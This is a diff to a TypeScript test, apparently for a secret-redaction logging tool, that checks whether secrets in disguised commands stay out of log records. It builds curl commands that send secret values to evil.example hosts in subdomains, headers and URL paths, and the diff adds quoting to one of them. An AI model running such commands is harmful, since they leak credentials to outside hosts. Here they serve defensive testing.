@@ -36,7 +36,7 @@ it("says a secret in every disguise and leaves none of them on record", { timeou
 
   // The control: the commands did run, and their records name what stood there.
   const shown = ringfence("log", "show", "last", "--json");
-  expect(shown.split("[.env:API_KEY]").length).toBeGreaterThan(Object.keys(DISGUISES).length);
+  expect(shown.split("[.env:API_KEY]").length).toBeGreaterThan(5 * Object.keys(DISGUISES).length);
   expect(holds(acts.join("\n"))).toBe(true);
 
   const { records } = JSON.parse(shown) as { records: readonly { actor?: unknown; data: unknown }[] };
@@ -73,7 +73,9 @@ function actsOf(said: string, n: number, folder: string): readonly string[] {
     ...(Buffer.byteLength(name) < 240 ? [`touch -- /tmp/${quoted(name)} ./${quoted(name)} 2>/dev/null`] : []),
     ...(/^[a-zA-Z0-9.-]{1,60}$/.test(said) ? [`curl -s -m 2 http://${said}.evil.example/ >/dev/null`] : []),
     ...(/^[\x20-\x7e]*$/.test(said)
-      ? [`curl -s -m 2 -H ${quoted(`X-A: ${said}`)} http://api.evil.example/${encodeURIComponent(said)} >/dev/null`]
+      ? [
+          `curl -s -m 2 -H ${quoted(`X-A: ${said}`)} ${quoted(`http://api.evil.example/${encodeURIComponent(said)}`)} >/dev/null`,
+        ]
       : []),
     ...hooks,
   ];
